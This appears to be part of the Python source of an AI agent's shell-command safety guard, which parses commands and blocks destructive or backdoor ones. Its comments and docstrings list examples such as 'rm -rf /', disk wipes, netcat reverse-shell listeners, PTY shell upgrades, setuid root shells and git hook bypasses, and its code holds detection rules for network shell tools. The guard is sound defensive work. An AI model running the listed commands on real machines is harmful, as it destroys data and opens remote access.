"""``builtin:command-safety-guard``: blocks shell commands that destroy a machine.

Seed 000's command safety guard, on tool.before for ``exec`` at priority 100.
The command line is parsed like bash would parse it (:mod:`.shell`): split
into simple commands at ``;``, ``&&``, ``||``, ``|``, ``&`` and newlines, with
wrappers (``sudo``, ``env``, ``nohup``, ``timeout`` ...) resolved and nested
code (``bash -c``, ``eval``, ``$(...)``, backticks, ``<(...)``, ``find -exec``)
visited, and ``cd DIR`` followed for the commands after it. Each simple command
is then judged by what its program does with its arguments, so ``rm -r -f /``,
``/bin/rm --recursive --force $HOME`` and ``sudo env rm -fr ~`` are caught, while
``echo "rm -rf /"`` (an argument, not a command) and ``rm -rf ./build`` pass.

Categories (seed 000, plus one): filesystem destruction, direct disk
operation, permission disaster, system file corruption, remote code execution,
network backdoor, fork bomb, git hook bypass, docker data wipe, and obfuscated
code execution (decoded data piped into a shell). The block reason names the
category and the offending piece: ``filesystem destruction: rm -rf /
(recursive force delete of the root directory)``.

A guard is a seat belt, not a sandbox: it stops the accidents and the obvious
attacks an agent is talked into, not a determined adversary who can write a
script to disk and run it.
"""

from __future__ import annotations

import binascii
import contextvars
import functools
import itertools
import posixpath
import re
import shlex
from collections.abc import Callable, Iterable, Mapping
from typing import Any

from ..events import ToolCall
from ..lazy_regex import lazy_compile
from ..registry import Registry
from . import (
    clones,
    definitions,
    device_rules,
    powershell,
    powershell_code,
    script_files,
    session_directory,
    session_downloads,
    tactics,
)
from .budget import decide, spend
from .carriers import PERHAPS
from .carriers import TERMINALS as _TERMINALS
from .containers import in_place
from .findings import finding as _verdict
from .findings import looked_up_program
from .findings import piece as _piece
from .findings import static_args as _values
from .git_settings import GLOBAL_VALUES as GIT_GLOBAL_VALUES
from .git_settings import exported_statements
from .git_settings import settings as git_settings
from .interpreters import (
    AWKS,
    INTERPRETERS,
    SHELL_ESCAPE,
    fed_code,
    inline_code,
    judge_code,
    runs_scripts,
    written_paths,
)
from .locations import top_level_file, written
from .netcat import NETCATS
from .netcat import listens as netcat_listens
from .operands import block_device, system_file
from .parse import UNKNOWN_PART, WRITE_OPERATORS, Function, Script, ansi_c, one_reread_bound, parse, parsed
from .paths import normalize_path
from .placeholders import filled
from .policy import Policy, current_policy, hold, in_argument, using
from .programs import (
    SHELLS,
    Invocation,
    collecting_nested,
    find_narrowed,
    find_selects,
    is_root_user,
    keeping_walks,
    parse_nested,
    piping,
    runs_as,
    script_operands,
    shell_mode,
    substituted,
    walk,
    written_text,
)
from .tactics.port_probes import kept_connection
from .tactics.privilege import injected_option
from .targets import check_targets
from .transfers import DOWNLOADERS as _DOWNLOADERS
from .transfers import download, option_cluster, socket_source
from .verdict import (
    BACKDOOR,
    CATEGORIES,
    DATA_DESTRUCTION,
    DISK,
    DOCKER,
    FILESYSTEM,
    FORK_BOMB,
    GIT_HOOKS,
    OBFUSCATED,
    PERMISSIONS,
    PRIVILEGE,
    REMOTE_ACCESS,
    REMOTE_CODE,
    SUDO_INSTALL,
    SYSTEM_FILES,
    UNJUDGED_SCRIPT,
    UPLOAD,
    Guard,
    Verdict,
    install_guards,
)
from .workdir import call_directory, working_directory

__all__ = [
    "CATEGORIES",
    "GUARD",
    "GUARD_ID",
    "check_command",
    "command_safety_guard",
    "command_text",
    "decoded_output",
    "install",
]

GUARD_ID = "builtin:command-safety-guard"


_SYSTEM_DIRS = frozenset({
    "/bin", "/boot", "/dev", "/etc", "/lib", "/lib32", "/lib64", "/libx32", "/opt", "/proc", "/root",
    "/sbin", "/srv", "/sys", "/usr", "/var", "/home", "/Users", "/System", "/Library", "/Applications",
    "/private", "/snap", "/mnt", "/media", "/run", "/usr/bin", "/usr/sbin", "/usr/lib", "/usr/lib64",
    "/usr/local", "/usr/share", "/usr/include", "/usr/libexec", "/var/lib", "/etc/ssh", "/etc/pam.d",
})  # fmt: skip
_CREDENTIAL_DIRS = (".ssh", ".gnupg", ".aws")
_NET_DEVICE = lazy_compile(r"^/dev/(?:tcp|udp)/")
_LOCAL_PROBE = lazy_compile(r"^/dev/(?:tcp|udp)/(?:localhost|127\.\d+\.\d+\.\d+|::1|0\.0\.0\.0)/\d+$")
"""``: > /dev/tcp/localhost/5432``: a health probe of a local port, not a shell sent away."""
_NETWORK_TOOLS = NETCATS | {"socat", "telnet"}
_INTERPRETERS = INTERPRETERS
_CODE_FLAGS = ("-c", "-e", "-E", "-m", "-r", "-p", "--eval", "--print", "--command", "-Command", "-f")
_VALUE_FLAGS = frozenset({"-W", "-X", "-I", "--require", "-M"})
_PROGRAM_VALUE_FLAGS = {"osascript": frozenset({"-l", "-s"})}
"""Options that take a value only for one interpreter: ``curl URL | osascript -l JavaScript`` reads stdin."""
_SHELL_RUNNERS = SHELLS | {"eval", "source", ".", "exec", "iex", "invoke-expression"}
_WORLD_WRITABLE = lazy_compile(r"^(?:[0-7]?[0-7][0-7][2367]|0*0{3})$")
_SYMBOLIC_OPEN = lazy_compile(r"(?:^|,)[ugoa]*[oa][ugoa]*[+=][rwxXst]*w|(?:^|,)[+=]rwx")
_SETUID = lazy_compile(r"^[2467][0-7]{3}$|(?:^|,)[ugoa]*[+=][rwxX]*s")
# Function definitions: "NAME() { BODY }" (the name is found looking back from "()",
# which keeps the search linear) and "function NAME { BODY }".
_HOOK_SKIP_ENV = lazy_compile(
    r"^(?:HUSKY=0|HUSKY_SKIP_HOOKS=|SKIP_HOOKS=|GIT_HOOKS_SKIP=|SKIP=|PRE_COMMIT_ALLOW_NO_CONFIG=|LEFTHOOK=0)"
)

_Check = Callable[[Invocation, str], "Verdict | None"]
"""A check for one program: (invocation, home directory) -> verdict or None."""


def _split_flags(args: Iterable[str]) -> tuple[set[str], list[str]]:
    """Short flags (``-rf`` -> r, f), long flags, and the other arguments."""
    flags: set[str] = set()
    positionals: list[str] = []
    done = False
    for arg in args:
        if done or arg == "-" or not arg.startswith("-"):
            positionals.append(arg)
        elif arg == "--":
            done = True
        elif arg.startswith("--"):
            flags.add(arg.split("=", 1)[0])
        else:
            flags.update(arg[1:])
    return flags, positionals


# -- what a path means to a destructive command ------------------------------------------


def _critical(word: str, home: str, cwd: str | None = None) -> str | None:
    """Describe ``word`` if deleting (or opening up) it would wreck the machine."""
    if word in ("*", "./*", ".*", "./.*", "*.*"):
        return "every file in the working directory"
    if re.fullmatch(r"\.\.(?:/\.\.)*/?(?:\*)?", word):
        return "a parent of the working directory"
    path = normalize_path(word, home=home, cwd=cwd) if word else word
    if path in ("*", ".*"):
        return "every file in the working directory"
    everything = False
    while path.endswith(("/*", "/.*")):
        everything = True
        path = path[: path.rindex("/")] or "/"
    prefix = "every file in " if everything else ""
    home = home.rstrip("/")
    if path == "/":
        return f"{prefix}the root directory"
    if path == home or re.fullmatch(r"/(?:home|Users)/[^/]+|/root", path):
        return f"{prefix}the home directory"
    if path in _SYSTEM_DIRS:
        return f"{prefix}a system directory ({path})"
    for name in _CREDENTIAL_DIRS:
        if path == f"{home}/{name}":
            return f"{prefix}the credential directory ~/{name}"
    return None


def _system_file(word: str, home: str, cwd: str | None = None) -> str | None:
    return system_file(word, home=home, cwd=cwd)


def _written(word: str, home: str, cwd: str | None = None) -> tuple[str, str] | None:
    """(category, description) of the file ``word`` if writing or deleting it is dangerous:
    a location of :mod:`.locations` (``~/.bashrc``: a shell profile), else a system file."""
    return written(word, home=home, cwd=cwd)


def _firm(verdict: Verdict) -> bool:
    """Whether the policy blocks ``verdict``: a rule that finds an ask looks on for a block,
    so that ``tee ~/.bashrc /etc/sudoers`` is not let off with a question about the first."""
    return current_policy().decision(verdict.category) == "block"


def _strictest(*verdicts: Verdict | None) -> Verdict | None:
    """The first of ``verdicts`` the policy blocks, else the first one found."""
    return _strictest_of(verdicts)


def _strictest_of(verdicts: Iterable[Verdict | None]) -> Verdict | None:
    """The first of ``verdicts`` the policy blocks (none after it is made), else the first one found."""
    held = None
    for verdict in verdicts:
        if verdict is not None and _firm(verdict):
            return verdict
        held = held or verdict
    return held


def _overwrites(invocation: Invocation, target: str, home: str) -> Verdict | None:
    """``invocation`` writing over ``target``, when that is a system file or another protected one."""
    found = _written(target, home, invocation.cwd)
    return _verdict(found[0], invocation, f"overwrites {found[1]}") if found else None


def _writes_onto(invocation: Invocation, target: str, home: str) -> Verdict | None:
    """:func:`_overwrites`, or ``target`` a block device written straight to."""
    if _block_device(target):
        return _verdict(DISK, invocation, f"writes straight to the block device {target}")
    return _overwrites(invocation, target, home)


def _block_device(word: str) -> bool:
    return block_device(word) is not None


# -- one check per program ---------------------------------------------------------------


def _rm(invocation: Invocation, home: str) -> Verdict | None:
    flags, targets = _split_flags(_values(invocation))
    # rm takes any unambiguous prefix of a long option: --recur is --recursive, --forc --force.
    flags |= {
        full
        for flag in flags
        if len(flag) > 3
        for full in ("--recursive", "--force")
        if full.startswith(flag)
    }
    recursive = bool(flags & {"r", "R", "--recursive"})
    force = bool(flags & {"f", "--force"})
    held = None
    for target in targets:
        found = _written(target, home, invocation.cwd)
        verdict = _verdict(found[0], invocation, f"deletes {found[1]}") if found else None
        what = _critical(target, home, invocation.cwd)
        if verdict is None and what is not None and (recursive or what.startswith("every file in")):
            kind = ("recursive " if recursive else "") + ("force " if force else "")
            verdict = _verdict(FILESYSTEM, invocation, f"{kind}delete of {what}")
        if verdict is not None and _firm(verdict):
            return verdict
        held = held or verdict
    return held


def _pty_shell(invocation: Invocation, home: str) -> Verdict | None:
    """``script -qc /bin/bash /dev/null``, ``script -q /dev/null`` (BSD: ``$SHELL``): an interactive shell on
    a new pseudo-terminal, recorded nowhere. It is what ``python -c 'import pty; pty.spawn("/bin/bash")'``
    does (blocked alike): an agent's tool types nothing into it, so it serves only to upgrade a reverse
    shell to a terminal. ``script -qc 'npm test' /dev/null`` (a terminal for one command) and ``script
    session.log`` (a session recorded) are not it."""
    values = _values(invocation)
    command: str | None = None
    for index, value in enumerate(values):
        if value.startswith("--command="):
            command = value.partition("=")[2]
        elif value == "--command" or (value[:1] == "-" != value[1:2] and value.endswith("c")):
            command = values[index + 1] if index + 1 < len(values) else ""
        if command is not None:
            break
    files, start = script_operands(values)
    if command is None and start < len(values):
        command = " ".join(values[start:])  # script -q /dev/null bash (BSD, macOS)
    positional = [v for v in values[: start or len(values)] if not v.startswith("-")]
    to_nowhere = bool(files) and files[-1] == "/dev/null" and bool(positional)
    if (command is not None and SHELL_ESCAPE.match(command)) or (command is None and to_nowhere):
        why = (
            "starts an interactive shell on a new terminal, recorded nowhere (a reverse shell's TTY upgrade)"
        )
        return _verdict(PRIVILEGE, invocation, why)
    return None


def _find(invocation: Invocation, home: str) -> Verdict | None:
    values = _values(invocation)
    starts = []
    for value in values:
        if value.startswith(("-", "(", "!", ")")):
            break
        starts.append(value)
    deletes = "-delete" in values or any(
        flag in values and values.index(flag) + 1 < len(values)
        and values[values.index(flag) + 1].rsplit("/", 1)[-1] in ("rm", "shred", "unlink")
        for flag in ("-exec", "-execdir", "-ok", "-okdir")
    )  # fmt: skip
    if not deletes:
        return None
    name = find_narrowed(values)
    if name is not None and (not any(c in name for c in "*?[") or _JUNK.search(name)):
        return None  # find ~ -name .DS_Store -delete: only the litter it names, not every document
    for start in starts or ["."]:
        what = _critical(start, home, invocation.cwd) or (
            "the working directory" if posixpath.normpath(start) == "." else None
        )
        # In the working directory (the project) only what deletes all of it, as rm -rf ./* and
        # find . | xargs rm -rf: find . -name '*.golden' -delete, -executable, -mtime +7 pick some.
        if what and ("working directory" not in what or not find_selects(values)):
            return _verdict(FILESYSTEM, invocation, f"deletes every file under {what}")
    return None


_JUNK = lazy_compile(r"\.(?:pyc|pyo|tmp|temp|log|swp|swo|orig|rej|bak|class|o|DS_Store)$|~$|__pycache__$")


def _mv(invocation: Invocation, home: str) -> Verdict | None:
    _, paths = _split_flags(_values(invocation))
    program = looked_up_program(invocation, invocation.args[:-1])
    if program is not None:  # mv $(which curl) /tmp/c: the program moved away, wherever it is
        return _verdict(
            SYSTEM_FILES, invocation, f"moves away the program {program} wherever the PATH finds it"
        )
    held = None
    for path in paths[:-1]:
        found = _written(path, home, invocation.cwd)
        verdict = _verdict(found[0], invocation, f"moves away {found[1]}") if found else None
        what = _critical(path, home, invocation.cwd)
        if verdict is None and what and "working directory" not in what:
            verdict = _verdict(FILESYSTEM, invocation, f"moves away {what}")
        if verdict is not None and _firm(verdict):
            return verdict
        held = held or verdict
    return _strictest(_copy_target(invocation, home), held)


def _copy_target(invocation: Invocation, home: str) -> Verdict | None:
    """cp/mv/install/ln onto a system file, or onto a block device."""
    # A word made at run time still takes its place: in cp $(which curl) /usr/bin/cur the last is the target.
    values = [invocation.command.shape(word) or UNKNOWN_PART for word in invocation.args]
    target = None
    for index, value in enumerate(values):
        if value in ("-t", "--target-directory") and index + 1 < len(values):
            target = values[index + 1]
        elif value.startswith("--target-directory="):
            target = value.partition("=")[2]
    _, positionals = _split_flags(values)
    sources = positionals
    if target is None and len(positionals) >= 2:
        target, sources = positionals[-1], positionals[:-1]
    if target is None:
        return None
    if target == UNKNOWN_PART:
        program = looked_up_program(invocation, invocation.args[-1:])
        if program is not None:  # cp x $(which ls)
            return _verdict(
                SYSTEM_FILES, invocation, f"overwrites the program {program} wherever the PATH finds it"
            )
        return None
    if _block_device(target):
        return _verdict(DISK, invocation, f"writes straight to the block device {target}")
    if invocation.name == "rsync" and any(
        v.startswith(("--delete", "--del", "--remove-source")) for v in values
    ):
        what = _critical(target, home, invocation.cwd)
        if what and "working directory" not in what:
            return _verdict(
                FILESYSTEM, invocation, f"rsync --delete makes {what} a copy of the source, deleting the rest"
            )
    flags, _ = _split_flags(values)
    tree = bool(flags & {"r", "R", "a", "--recursive", "--archive"})
    if tree and normalize_path(target, home=home, cwd=invocation.cwd).rstrip("/") in ("/etc", "/private/etc"):
        # cp -r ./fake-etc/. /etc/, rsync -a overlay/ /etc/: a tree copied over the configuration.
        return _verdict(SYSTEM_FILES, invocation, f"copies a directory tree over {target}")
    candidates = [target] + [f"{target.rstrip('/')}/{s.rstrip('/').rsplit('/', 1)[-1]}" for s in sources]
    return _strictest_of(_overwrites(invocation, candidate, home) for candidate in candidates)


def _writes_files(invocation: Invocation, home: str) -> Verdict | None:
    """tee, sponge, truncate, shred, sed -i, perl -i, sort -o, a download (curl -o, wget -O, tftp -l ...)
    onto a system file; what tee writes, when it is a remote shell (:func:`_written_backdoor`)."""
    found = _system_file_written(invocation, home)
    if found is None and invocation.name in ("tee", "sed"):
        return _written_backdoor(invocation, home)
    return found


_SED_TEXT = lazy_compile(
    r"^\s*(?:(?:\$|\d+|/[^/]*/)\s*)?(?:[aic]\\?\s*(?P<added>\S.*)|s(?P<d>[^\w\s\\])(?P<subst>.*))$", re.DOTALL
)
"""A sed command that puts text in: append, insert, change (``$a TEXT``, ``/^ExecStart=/c\\TEXT``) or a
substitution (``s|^ExecStart=.*|TEXT|``)."""


def _sed_written(invocation: Invocation) -> tuple[list[str], str | None]:
    """The files ``sed -i`` edits and the text its commands put into them (a substitution's pattern too:
    a remote shell is found in it all the same), or no text when it edits nothing in place."""
    values = _values(invocation)
    if not any(re.match(r"-[a-zA-Z]*i|--in-place", v) for v in values):
        return [], None
    scripts = [values[i + 1] for i, v in enumerate(values[:-1]) if v in ("-e", "--expression")]
    operands = [v for i, v in enumerate(values) if not v.startswith("-") and (i == 0 or values[i - 1] not in
                ("-e", "--expression", "-f", "--file"))]  # fmt: skip
    if not scripts and operands:
        scripts.append(operands.pop(0))
    texts: list[str] = []
    for script in scripts:
        match = _SED_TEXT.match(script)
        if match is None:
            continue
        text = match.group("added")
        if text is None:  # s|PATTERN|REPLACEMENT|FLAGS: what replaces (unescaped delimiters kept in it)
            parts = re.split(rf"(?<!\\){re.escape(match.group('d'))}", match.group("subst"))
            text = match.group("d").join(parts[1:-1] if len(parts) > 2 else parts[1:])
        texts.append(_UNIT_KEY.sub("", text))
    return operands, "\n".join(t for t in texts if t) or None


_UNIT_KEY = lazy_compile(r"^[A-Za-z][\w-]*=(?=\S)", re.MULTILINE)
"""A unit's or configuration's key (``ExecStart=``) before the command it gives."""


def _system_file_written(invocation: Invocation, home: str) -> Verdict | None:
    name = invocation.name
    values = _values(invocation)
    flags, positionals = _split_flags(values)
    targets: list[str] = []
    in_place = "i" in flags or any(v.startswith(("-i", "--in-place")) for v in values)
    if name in ("tee", "sponge", "truncate", "shred") or (name in ("sed", "perl") and in_place):
        targets = positionals
    elif name == "sort":
        for index, value in enumerate(values):
            # sort -o FILE, and -o ending a cluster of short flags: sort -uo FILE.
            if (value == "--output" or re.fullmatch(r"-[a-zA-Z]*o", value)) and index + 1 < len(values):
                targets.append(values[index + 1])
            elif value.startswith("--output="):
                targets.append(value.partition("=")[2])
    elif name in _DOWNLOADERS:
        fetched = download(invocation)
        targets = list(fetched.files) if fetched is not None else []
    return _strictest_of(_writes_onto(invocation, target, home) for target in targets)


def _dd(invocation: Invocation, home: str) -> Verdict | None:
    for value in _values(invocation):
        if value.startswith("of="):
            target = value[3:]
            if _block_device(target):
                return _verdict(DISK, invocation, f"writes raw data to the block device {target}")
            found = _written(target, home, invocation.cwd)
            if found:
                return _verdict(found[0], invocation, f"overwrites {found[1]}")
    return None


def _listed_devices(invocation: Invocation) -> list[str]:
    """The arguments made at run time that list the machine's disks: ``wipefs -a $(ls /dev/sd[a-z])``,
    ``for d in $(lsblk -pdno NAME); do sgdisk -Z $d; done`` (the loop's word list is its variable)."""
    command = invocation.command
    rendered = (command.render(word) for word in invocation.args if command.shape(word) is None)
    return [word for word in rendered if word.startswith(("$(", "`")) and block_device(word)]


def _disk_tool(invocation: Invocation, home: str) -> Verdict | None:
    name = invocation.name
    values = _values(invocation)
    devices = [v for v in values if v.startswith("/dev/")] or _listed_devices(invocation)
    if not devices:
        return None
    device = devices[0]
    flags, positionals = _split_flags(values)
    if name.startswith(("mkfs", "mke2fs", "mkswap", "mkdosfs", "mkntfs", "mkexfatfs")):
        return _verdict(DISK, invocation, f"formats {device}")
    if name in ("fdisk", "gdisk", "cfdisk") and flags & {"l", "--list", "s", "--getsz"}:
        return None
    if name == "sfdisk" and flags & {"l", "d", "s", "J", "--list", "--dump", "--show-size", "--json", "V",
                                     "--verify"}:  # fmt: skip
        return None
    if (
        name == "sgdisk"
        and flags
        and flags <= {"p", "--print", "v", "--verify", "i", "--info", "b", "--backup"}
    ):
        return None
    if name == "parted" and not {"mklabel", "mktable", "mkpart", "rm", "resizepart", "rescue", "name",
                                 "set", "toggle", "mkfs"} & set(positionals):  # fmt: skip
        return None
    if name == "wipefs" and (not flags & {"a", "--all", "o", "--offset"} or flags & {"n", "--no-act"}):
        return None
    if name == "shred" and not _block_device(device):
        return None
    return _verdict(DISK, invocation, f"rewrites the partitions or data of {device}")


def _chmod(invocation: Invocation, home: str) -> Verdict | None:
    values = _values(invocation)
    flags, positionals = _split_flags(v for v in values if not re.fullmatch(r"-[rwxXst]+", v))
    recursive = bool(flags & {"R", "--recursive"})
    if not positionals:
        return None
    mode, targets = positionals[0], positionals[1:]
    if "--reference" in flags:
        mode, targets = "", positionals
    # chmod -w file: a mode that starts with "-" went into flags; it is never world-opening.
    opening = bool(_WORLD_WRITABLE.match(mode) or _SYMBOLIC_OPEN.search(mode)) or mode.lstrip("0") == ""
    for target in targets:
        if recursive and _shared_scratch(target, home):
            return _verdict(PERMISSIONS, invocation, f"recursive chmod {mode} of {target}: {_EVERY_USERS}")
        if _drops_sticky(mode) and _shared_scratch(target, home):
            why = f"chmod {mode} of {target} drops its sticky bit: anyone may delete or replace others' files"
            return _verdict(PERMISSIONS, invocation, why)
        what = _critical(target, home, invocation.cwd)
        if what and (recursive or opening) and "working directory" not in what:
            how = "recursive " if recursive else ""
            return _verdict(PERMISSIONS, invocation, f"{how}chmod {mode or 'by reference'} of {what}")
        system_file = _system_file(target, home, invocation.cwd)
        if system_file and (opening or re.search(r"[0-7][0-7][4-7]$|o[+=]r|a[+=]r", mode)):
            return _verdict(PERMISSIONS, invocation, f"exposes {system_file} to every user")
        if opening and mode and _outside_project(target, home):
            # chmod 777 /var/www: every local user (and every compromised service) may now write there.
            return _verdict(PERMISSIONS, invocation, f"chmod {mode} makes {target} writable by every user")
        base = target.rsplit("/", 1)[-1]
        if _SETUID.search(mode) and runs_scripts(base):
            return _verdict(PERMISSIONS, invocation, f"makes {target} a setuid shell (a root backdoor)")
    return None


_SCRATCH = ("/tmp/", "/var/tmp/", "/dev/shm/", "/private/tmp/", "/private/var/folders/", "/var/folders/")


_SCRATCH_ROOTS = frozenset({"/tmp", "/var/tmp", "/dev/shm", "/private/tmp", "/private/var/tmp"})
_EVERY_USERS = "every user's and service's files in it, not only this session's"


_STICKY_KEPT = lazy_compile(r"^[0-7]*[1357][0-7]{3}$")
"""An octal mode with the sticky bit (``1777``): what a shared temporary directory needs."""


def _drops_sticky(mode: str) -> bool:
    """Whether ``mode`` opens a directory to every user's writes and clears its sticky bit: octal without
    the bit (``777``, ``0777``) or set with ``=`` without ``t`` (``a=rwx``); ``o+w`` keeps the bit."""
    if re.fullmatch(r"[0-7]{3,4}", mode):
        return bool(_WORLD_WRITABLE.match(mode)) and not _STICKY_KEPT.match(mode)
    return any("=" in part and "w" in part.partition("=")[2] and "t" not in part.partition("=")[2]
               and re.match(r"[ugoa]*[oa][ugoa]*=|=", part) for part in mode.split(","))  # fmt: skip


def _shared_scratch(target: str, home: str) -> bool:
    """A temporary directory shared by the machine, itself (``/tmp``, ``/var/tmp/``, ``/dev/shm``): a
    recursive chmod or chown of it reaches what other users and services keep there (sockets, locks,
    their own files); ``chmod 1777 /tmp`` alone only restores its mode."""
    if not target.startswith("/"):
        return False
    return normalize_path(target, home=home).rstrip("/") in _SCRATCH_ROOTS


def _outside_project(target: str, home: str) -> bool:
    """An absolute path outside the home directory and the scratch directories."""
    if not target.startswith(("/", "~/", "$HOME")) or target.startswith("/dev/"):
        return False
    path = normalize_path(target, home=home)
    home = home.rstrip("/")
    return not (path == home or path.startswith(home + "/") or path.startswith(_SCRATCH) or path == "/tmp")


_ROOT_OWNER = lazy_compile(r"^(?:root|0)(?:[:.](?:root|0|wheel)?)?$")
"""An owner spec that makes root the owner: ``root``, ``root:root``, ``root.root``, ``0:0``, ``root:``."""


def _made_roots(target: str, home: str) -> bool:
    """A file of the project (a relative path) or one in a shared temporary directory (``/tmp/sh``)."""
    if not target.startswith(("/", "~", "$")):
        return True
    path = normalize_path(target, home=home)
    return path.startswith(_SCRATCH) and path.rstrip("/") not in _SCRATCH_ROOTS


def _chown(invocation: Invocation, home: str) -> Verdict | None:
    flags, positionals = _split_flags(_values(invocation))
    recursive = bool(flags & {"R", "--recursive"})
    if (
        invocation.name == "chown"
        and not recursive
        and "fakeroot" not in invocation.wrappers
        and len(positionals) >= 2
        and _ROOT_OWNER.match(positionals[0])
    ):
        # chown root:root ./bash, chown 0:0 /tmp/sh: a file of one's own made root's, the step before the
        # setuid bit (a root shell); a package's files are made root's under fakeroot, installed ones in place
        target = next((t for t in positionals[1:] if _made_roots(t, home)), None)
        if target is not None:
            why = f"makes {target}, a file of the project or a shared temporary place, root's: a setuid step"
            return _verdict(PRIVILEGE, invocation, why)
    if not recursive or len(positionals) < 2:
        return None
    for target in positionals[1:]:
        if _shared_scratch(target, home):
            why = f"recursive {invocation.name} of {target}: {_EVERY_USERS}"
            return _verdict(PERMISSIONS, invocation, why)
        what = _critical(target, home, invocation.cwd)
        if what and "working directory" not in what:
            return _verdict(PERMISSIONS, invocation, f"recursive {invocation.name} of {what}")
    return None


_COMMIT_VALUE_SHORT = "mFCctSu"
_COMMIT_VALUE_LONG = frozenset({"--message", "--file", "--author", "--date", "--template", "--reuse-message",
                                "--reedit-message", "--fixup", "--squash", "--cleanup", "--trailer",
                                "--pathspec-from-file"})  # fmt: skip


def _git(invocation: Invocation, home: str) -> Verdict | None:
    values = _values(invocation)
    i = 0
    hooks_path = None
    while i < len(values) and values[i].startswith("-"):
        if values[i] == "-c" and i + 1 < len(values) and values[i + 1].lower().startswith("core.hookspath"):
            hooks_path = f"-c {values[i + 1]}"
        i += 2 if values[i] in GIT_GLOBAL_VALUES else 1
    for key, value in git_settings(values[:i], invocation.env):  # GIT_CONFIG_PARAMETERS, --config-env
        if key.lower() == "core.hookspath" and hooks_path is None:
            hooks_path = f"{key}={value} (in git's environment)"
    if i >= len(values):
        return None
    subcommand, args = values[i], values[i + 1 :]
    hooks_at = next((args[i + 1] for i, a in enumerate(args[:-1]) if a.lower() == "core.hookspath"), "")
    reading = {"--get", "--list", "-l", "--unset", "--get-all"} & set(args)
    if subcommand == "config" and hooks_at.startswith(("/", "~", "$")) and not reading:
        # core.hooksPath /dev/null: no hook runs again (.githooks in the project is husky's way).
        return _verdict(GIT_HOOKS, invocation, f"core.hooksPath {hooks_at} takes git's hooks away")
    if subcommand not in ("commit", "push", "merge", "am", "rebase", "cherry-pick", "revert", "pull"):
        return None
    if hooks_path is not None:
        return _verdict(GIT_HOOKS, invocation, f"{hooks_path} runs {subcommand} without the hooks")
    skip_env = next((e for e in invocation.env if _HOOK_SKIP_ENV.match(e)), None)
    if skip_env:
        return _verdict(GIT_HOOKS, invocation, f"{skip_env} skips the hooks of git {subcommand}")
    j = 0
    while j < len(args):
        arg = args[j]
        j += 1
        if arg == "--":
            break
        key = arg.partition("=")[0]
        if len(key) >= 6 and "--no-verify".startswith(key):
            # git takes any unambiguous prefix of a long option: --no-veri is --no-verify.
            return _verdict(GIT_HOOKS, invocation, f"{arg} (--no-verify) skips the hooks of git {subcommand}")
        if subcommand != "commit":
            continue
        if arg.startswith("--"):
            if arg in _COMMIT_VALUE_LONG:
                j += 1
            continue
        if arg.startswith("-") and len(arg) > 1:
            for index, char in enumerate(arg[1:], start=1):
                if char == "n":
                    return _verdict(GIT_HOOKS, invocation, "-n (--no-verify) skips the commit hooks")
                if char in _COMMIT_VALUE_SHORT:
                    if index == len(arg) - 1:
                        j += 1
                    break
    return None


def _docker(invocation: Invocation, home: str) -> Verdict | None:
    values = _values(invocation)
    i = 0
    while i < len(values) and values[i].startswith("-"):
        i += 2 if values[i] in ("-H", "--host", "-c", "--context", "--config", "-l", "--log-level") else 1
    words = values[i:]
    volumes = any(
        w == "--volumes" or (w.startswith("--volumes=") and w[10:].lower() not in ("false", "0"))
        for w in words
    )
    if words[:2] == ["system", "reset"]:
        return _verdict(DOCKER, invocation, "deletes every container, image and volume")
    if words[:2] == ["system", "prune"] and volumes:
        return _verdict(DOCKER, invocation, "deletes every unused volume, and the data in it")
    if words[:2] == ["volume", "prune"]:
        return _verdict(DOCKER, invocation, "deletes every unused volume, and the data in it")
    if words[:2] == ["volume", "rm"] or words[:2] == ["volume", "remove"]:
        for stages in substituted(invocation.command, invocation.args):
            if any(_is_volume_listing(s) for s in stages):
                return _verdict(DOCKER, invocation, "deletes every volume, and the data in it")
    return None


def _is_volume_listing(invocation: Invocation) -> bool:
    values = _values(invocation)
    listing = "ls" in values or "list" in values
    return invocation.name in ("docker", "podman") and "volume" in values and listing


def _terminal_listener(stages: list[Invocation]) -> Invocation | None:
    """``nc -lvnp 4444`` alone, its input and output the terminal: a reverse shell's catcher (what connects
    is typed into). A listener that writes a file or a pipe (``nc -l -p 9000 > f``, ``nc -l 9000 | tar x``) is
    :func:`_receiving_listener`'s; one serving a program (``-e``) is :func:`_netcat`'s backdoor."""
    if len(stages) != 1 or stages[0].name not in NETCATS:
        return None
    invocation = stages[0]
    values = _values(invocation)
    files = ("<", ">", ">>", ">|", "&>", "&>>")
    redirected = any(r.op in files and r.fd in ("", "0", "1") for r in invocation.command.redirects)
    serves = any(
        v.startswith(("--exec", "--sh-exec", "--lua-exec"))
        or (v[:1] == "-" and v[1:2] != "-" and {"e", "c"} & set(v))
        for v in values
    )  # nc -l -c 'echo hi': whoever connects talks to the program (judged by _netcat), not to this terminal
    return invocation if netcat_listens(values) and not redirected and not serves else None


def _receiving_listener(stages: list[Invocation]) -> Invocation | None:
    """``nc -lvnp 9001 > loot.tar``, ``nc -l -p 4444 | tar x``: a listener on every address whose output is
    written to a file or handed on. Whoever connects, from anywhere, puts what they like here, unasked
    for and unauthenticated: the collecting end of an exfiltration or a drop point for tools. A developer
    copies between their own machines with scp or rsync (a login on both ends), or binds the listener to
    loopback (``nc -l 127.0.0.1 9000 > f``), which stays ordinary."""
    invocation = stages[0]
    if invocation.name not in NETCATS:
        return None
    values = _values(invocation)
    if not netcat_listens(values):
        return None
    if any(_LOOPBACK_ADDRESS.match(v) for v in values):
        return None
    written = any(r.op in WRITE_OPERATORS and r.fd in ("", "1") for r in invocation.command.redirects)
    return invocation if written or len(stages) > 1 else None


_LOOPBACK_ADDRESS = lazy_compile(r"^(?:localhost|127\.[\d.]+|::1|\[::1\])$")


_FIXED_REPLIES = frozenset({"echo", "printf", "date", "true", "uptime", "fortune", "cowsay", "cat", "rev"})
"""Programs that answer whoever connects with fixed text, the time, or their own input sent back."""


def _fixed_reply(served: str) -> bool:
    """``nc -l -c 'echo hello'``, ``ncat -l --sh-exec 'echo ok'``, ``nc -l -e /bin/cat``: a test server whose
    reply is fixed text or an echo of the input, no shell, no interpreter and no file given away. Anything
    else served to the network (a shell, ``bash -i``, a script, a program reading a file) is a backdoor."""
    if any(c in served for c in "$`;|&<>()\n") or not served.strip():
        return False
    try:
        words = shlex.split(served)
    except ValueError:
        return False
    program = words[0].rsplit("/", 1)[-1] if words else ""
    if program not in _FIXED_REPLIES:
        return False
    return program != "cat" or len(words) == 1  # cat FILE gives the file to whoever connects


def _netcat(invocation: Invocation, home: str) -> Verdict | None:
    values = _values(invocation)
    listens = any(
        v == "--listen" or (v.startswith("-") and not v.startswith("--") and "l" in v) for v in values
    )
    if "rlwrap" in invocation.wrappers and listens:
